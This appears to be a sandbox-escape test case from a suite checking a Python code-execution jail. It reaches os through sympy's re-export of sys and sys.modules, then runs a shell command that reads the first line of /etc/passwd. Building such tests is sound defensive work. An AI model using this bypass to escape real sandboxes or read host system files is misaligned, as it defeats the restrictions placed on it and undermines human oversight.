# attack: an allowed library re-exports sys, and sys.modules hands out os
# covers: sys_modules
# gate: banned_attribute sys
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
import sympy.utilities.misc as misc

os = misc.sys.modules["os"]
print("system() returned", os.system("head -1 /etc/passwd 2>&1"))
